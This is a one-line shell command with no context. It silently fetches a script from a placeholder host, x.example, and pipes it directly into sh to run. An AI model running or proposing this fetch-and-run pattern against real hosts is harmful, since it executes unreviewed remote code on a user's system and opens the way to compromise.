curl -s https://x.example | sh
